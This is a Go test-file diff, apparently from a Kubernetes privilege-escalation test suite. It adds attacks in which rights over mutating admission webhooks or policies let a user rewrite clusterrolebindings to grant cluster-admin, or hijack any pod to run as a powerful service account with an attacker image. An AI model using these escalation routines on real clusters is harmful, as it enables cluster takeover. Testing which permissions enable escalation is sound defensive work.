@@ -8,6 +8,7 @@ import (
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"strings"
 	"testing"
 
 	admissionv1 "k8s.io/api/admission/v1"
@@ -29,7 +30,7 @@ var admissionEscalations = []escalation{
 	{edge: "webhook-write", how: "create", grants: func(string, string) []grant {
 		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingwebhookconfigurations"}}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, a.rewriter()), metav1.CreateOptions{})
+		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, bindings, a.rewriter(bindingPatch(a.name))), metav1.CreateOptions{})
 		if err != nil {
 			return nil, err
 		}
@@ -40,16 +41,27 @@ var admissionEscalations = []escalation{
 	}, prepare: func(t *testing.T, s *scene, _, name string) {
 		url := "https://127.0.0.1:1/vendor"
 		if _, err := s.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(t.Context(),
-			mutating(name, admissionregistrationv1.WebhookClientConfig{URL: &url}), metav1.CreateOptions{}); err != nil {
+			mutating(name, bindings, admissionregistrationv1.WebhookClientConfig{URL: &url}), metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
 		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, a.name, types.JSONPatchType,
-			mustJSON(a.t, []any{replace("/webhooks/0/clientConfig", a.rewriter())}), metav1.PatchOptions{})
+			mustJSON(a.t, []operation{replace("/webhooks/0/clientConfig", a.rewriter(bindingPatch(a.name)))}), metav1.PatchOptions{})
 		if err != nil {
 			return nil, err
 		}
 		return a.config, a.victim()
+	}},
+	// Nobody need be an administrator: the pod of anybody is made one of the attacker's, as the
+	// powerful service account.
+	{edge: "webhook-write", how: "pod", grants: func(string, string) []grant {
+		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingwebhookconfigurations"}}
+	}, prepare: makeClerk, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
+		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, pods, a.rewriter(podPatch)), metav1.CreateOptions{})
+		if err != nil {
+			return nil, err
+		}
+		return a.victimPod()
 	}},
 	// One that may not change anything still reads: here a token, as it is written.
 	{edge: "webhook-write", how: "validating", grants: func(string, string) []grant {
@@ -81,7 +93,7 @@ var admissionEscalations = []escalation{
 		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicies"},
 			{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicybindings"}}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, rewriting(a.name)), metav1.CreateOptions{})
+		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, bindings, rewriting(bindingPatch(a.name))), metav1.CreateOptions{})
 		if err != nil {
 			return nil, err
 		}
@@ -90,11 +102,24 @@ var admissionEscalations = []escalation{
 		}
 		return a.config, a.victim()
 	}},
+	{edge: "policy-write", how: "pod", grants: func(string, string) []grant {
+		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicies"},
+			{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicybindings"}}
+	}, prepare: makeClerk, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
+		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, pods, rewriting(podPatch)), metav1.CreateOptions{})
+		if err != nil {
+			return nil, err
+		}
+		if _, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(ctx, bindingOf(a.name), metav1.CreateOptions{}); err != nil {
+			return nil, err
+		}
+		return a.victimPod()
+	}},
 	{edge: "policy-write", how: "patch", grants: func(_, name string) []grant {
 		return []grant{{verb: "patch", group: admissionGroup, resource: "mutatingadmissionpolicies", name: name}}
 	}, prepare: func(t *testing.T, s *scene, _, name string) {
 		harmless := `[JSONPatch{op: "add", path: "/metadata/labels/seen", value: "yes"}]`
-		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(t.Context(), policyOf(name, harmless), metav1.CreateOptions{}); err != nil {
+		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(t.Context(), policyOf(name, bindings, harmless), metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
 		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(t.Context(), bindingOf(name), metav1.CreateOptions{}); err != nil {
@@ -102,7 +127,7 @@ var admissionEscalations = []escalation{
 		}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
 		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Patch(ctx, a.name, types.JSONPatchType,
-			mustJSON(a.t, []any{replace("/spec/mutations/0/jsonPatch/expression", rewriting(a.name))}), metav1.PatchOptions{})
+			mustJSON(a.t, []operation{replace("/spec/mutations/0/jsonPatch/expression", rewriting(bindingPatch(a.name)))}), metav1.PatchOptions{})
 		if err != nil {
 			return nil, err
 		}
@@ -110,9 +135,22 @@ var admissionEscalations = []escalation{
 	}},
 }
 
-func replace(path string, value any) map[string]any {
-	return map[string]any{"op": "replace", "path": path, "value": value}
+// operation is one of a JSON patch.
+type operation struct {
+	Op    string `json:"op"`
+	Path  string `json:"path"`
+	Value any    `json:"value"`
 }
+
+func replace(path string, value any) operation { return operation{"replace", path, value} }
+
+// bindingPatch makes any binding one of an attacker to cluster-admin.
+func bindingPatch(name string) []operation {
+	return []operation{replace("/roleRef/name", clusterAdmin.Name), replace("/subjects/0/kind", rbacv1.UserKind), replace("/subjects/0/name", name)}
+}
+
+// podPatch makes any pod one of an attacker, as the powerful service account.
+var podPatch = []operation{replace("/spec/serviceAccountName", superrobot), replace("/spec/containers/0/image", "mine")}
 
 // marked are the requests that an attacker's webhook or policy is about: those of its own
 // escalation and of no other one.
@@ -137,10 +175,33 @@ func (a *attacker) victim() error {
 	return err
 }
 
-// rewriter is a webhook that makes any binding one of the attacker's to cluster-admin.
-func (a *attacker) rewriter() admissionregistrationv1.WebhookClientConfig {
-	patch := mustJSON(a.t, []any{replace("/roleRef", clusterAdmin), replace("/subjects", a.self())})
-	kind := admissionv1.PatchTypeJSONPatch
+// makeClerk makes the service account of a harmless pod.
+func makeClerk(t *testing.T, s *scene, namespace, name string) {
+	if _, err := s.admin.CoreV1().ServiceAccounts(namespace).Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name + "-clerk"}}, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// victimPod lets somebody run a harmless pod, as victim does with a binding, and returns
+// whoever is inside.
+func (a *attacker) victimPod() (*rest.Config, error) {
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: a.name, Labels: marked(a.name).MatchLabels}, Spec: a.node1(a.name + "-clerk")}
+	controlplane.Poll(a.t, "the apiserver to hear of it", func(ctx context.Context) (bool, string) {
+		made, err := a.admin.CoreV1().Pods(a.namespace).Create(ctx, pod, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
+		if err != nil {
+			return false, err.Error()
+		}
+		return made.Spec.ServiceAccountName == superrobot, "not yet"
+	})
+	if _, err := a.admin.CoreV1().Pods(a.namespace).Create(a.t.Context(), pod, metav1.CreateOptions{}); err != nil {
+		return nil, err
+	}
+	return a.inside(a.name), nil
+}
+
+// rewriter is a webhook that changes whatever it is asked about.
+func (a *attacker) rewriter(change []operation) admissionregistrationv1.WebhookClientConfig {
+	patch, kind := mustJSON(a.t, change), admissionv1.PatchTypeJSONPatch
 	return a.webhook(func(*admissionv1.AdmissionRequest) *admissionv1.AdmissionResponse {
 		return &admissionv1.AdmissionResponse{Allowed: true, Patch: patch, PatchType: &kind}
 	})
@@ -184,12 +245,12 @@ func (a *attacker) webhook(answer func(*admissionv1.AdmissionRequest) *admission
 		CABundle: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})}
 }
 
-func mutating(name string, at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.MutatingWebhookConfiguration {
+func mutating(name string, what admissionregistrationv1.Rule, at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.MutatingWebhookConfiguration {
 	none, ignore := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Ignore
 	return &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name},
 		Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "hook.example.com", ClientConfig: at, SideEffects: &none, FailurePolicy: &ignore,
 			AdmissionReviewVersions: []string{"v1"}, ObjectSelector: marked(name),
-			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: bindings()}}}}}
+			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: what}}}}}
 }
 
 func validating(name string, at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.ValidatingWebhookConfiguration {
@@ -201,22 +262,28 @@ func validating(name string, at admissionregistrationv1.WebhookClientConfig) *ad
 				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}}}}}}}
 }
 
-func bindings() admissionregistrationv1.Rule {
-	return admissionregistrationv1.Rule{APIGroups: []string{rbacGroup}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"}}
+// What webhooks and policies are about.
+var (
+	bindings = admissionregistrationv1.Rule{APIGroups: []string{rbacGroup}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"}}
+	pods     = admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}
+)
+
+// rewriting is a change as an expression.
+func rewriting(change []operation) string {
+	var patches []string
+	for _, o := range change {
+		patches = append(patches, fmt.Sprintf("JSONPatch{op: %q, path: %q, value: %q}", o.Op, o.Path, o.Value))
+	}
+	return "[" + strings.Join(patches, ", ") + "]"
 }
 
-// rewriting is what rewriter does, as an expression.
-func rewriting(name string) string {
-	return fmt.Sprintf(`[JSONPatch{op: "replace", path: "/roleRef/name", value: "cluster-admin"}, JSONPatch{op: "replace", path: "/subjects/0/kind", value: "User"}, JSONPatch{op: "replace", path: "/subjects/0/name", value: %q}]`, name)
-}
-
-func policyOf(name, expression string) *admissionregistrationv1.MutatingAdmissionPolicy {
+func policyOf(name string, what admissionregistrationv1.Rule, expression string) *admissionregistrationv1.MutatingAdmissionPolicy {
 	ignore := admissionregistrationv1.Ignore
 	return &admissionregistrationv1.MutatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: name},
 		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{FailurePolicy: &ignore, ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
 			MatchConstraints: &admissionregistrationv1.MatchResources{ObjectSelector: marked(name),
 				ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{RuleWithOperations: admissionregistrationv1.RuleWithOperations{
-					Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: bindings()}}}},
+					Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: what}}}},
 			Mutations: []admissionregistrationv1.Mutation{{PatchType: admissionregistrationv1.PatchTypeJSONPatch,
 				JSONPatch: &admissionregistrationv1.JSONPatch{Expression: expression}}}}}
 }
